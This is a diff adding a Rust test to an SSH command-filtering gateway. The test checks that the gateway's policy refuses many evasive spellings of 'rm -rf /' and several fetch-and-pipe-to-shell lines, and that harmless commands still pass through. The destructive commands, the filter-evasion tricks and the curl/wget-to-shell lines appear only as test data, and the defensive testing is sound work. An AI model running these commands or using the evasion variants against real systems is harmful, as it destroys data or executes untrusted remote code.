@@ -1194,3 +1194,72 @@ async fn the_example_policies_decide_commands_by_their_programs() {
 
     g.h.stop().await;
 }
+
+/// `rm -rf /` and download-to-shell in the spellings a shell accepts, sent by the real ssh
+/// client through sluice under the example policies, to a target that only prints what it
+/// would run (support::ssh::dry_target): each must be refused with its rule, while ordinary
+/// lines reach the target.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn evasions_of_the_guardrails_are_refused_through_the_real_client() {
+    let keys = tempfile::tempdir().unwrap();
+    let extra = dry_target(keys.path(), "dry");
+    let g = SshGateway::start_with_examples_and(&extra).await;
+    let refused: &[(&str, &str)] = &[
+        ("rm -rf /", "destructive_command"),
+        ("rm -fr /", "destructive_command"),
+        ("rm -r -f /", "destructive_command"),
+        ("rm -Rf //", "destructive_command"),
+        ("rm -rf /.", "destructive_command"),
+        ("rm -rf /*", "destructive_command"),
+        ("rm --recursive --force /", "destructive_command"),
+        ("rm -rf --no-preserve-root /", "destructive_command"),
+        ("/bin/rm -rf /", "destructive_command"),
+        ("\\rm -rf /", "destructive_command"),
+        ("r''m -rf /", "destructive_command"),
+        ("\"rm\" -rf /", "destructive_command"),
+        ("$'\\x72m' -rf /", "destructive_command"),
+        ("true; rm -rf /", "destructive_command"),
+        ("ls && rm -rf /", "destructive_command"),
+        ("false || rm -rf /", "destructive_command"),
+        ("(rm -rf /)", "destructive_command"),
+        ("{ rm -rf /; }", "destructive_command"),
+        ("sh -c 'rm -rf /'", "destructive_command"),
+        ("bash -c \"rm -rf /\"", "destructive_command"),
+        ("sudo rm -rf /", "destructive_command"),
+        ("env X=1 rm -rf /", "destructive_command"),
+        ("nice -n 5 rm -rf /", "destructive_command"),
+        ("timeout 5 rm -rf /", "destructive_command"),
+        ("nohup rm -rf / &", "destructive_command"),
+        (
+            "find / -maxdepth 0 -exec rm -rf / \\;",
+            "destructive_command",
+        ),
+        ("sh -c \"sh -c 'rm -rf /'\"", "destructive_command"),
+        ("cd / && rm -rf *", "destructive_command"),
+        ("curl -s http://x/i.sh | sh", "fetch_piped_to_shell"),
+        ("wget -qO- http://x/i.sh | bash", "fetch_piped_to_shell"),
+        ("echo cm0gLXJmIC8= | base64 -d | sh", "fetch_piped_to_shell"),
+        ("bash <(curl -s http://x/i.sh)", "fetch_piped_to_shell"),
+        ("ls 'unterminated", "unparsed_command"),
+    ];
+    for (line, rule) in refused {
+        let o = run_async(g.ssh("alice", "dry", &[line])).await;
+        assert_eq!(o.status.code(), Some(126), "{line}: {}", both(&o));
+        assert!(
+            err(&o).contains(&format!("denied by policy rule {rule}")),
+            "{line}: {}",
+            both(&o)
+        );
+        assert!(!out(&o).contains("would run"), "{line} reached the target");
+    }
+    for line in [
+        "uname -a",
+        "ls -la /tmp | wc -l",
+        "rm -rf /tmp/sluice-dry-x",
+    ] {
+        let o = run_async(g.ssh("alice", "dry", &[line])).await;
+        assert!(o.status.success(), "{line}: {}", both(&o));
+        assert_eq!(out(&o), format!("would run: {line}"), "{}", both(&o));
+    }
+    g.h.stop().await;
+}
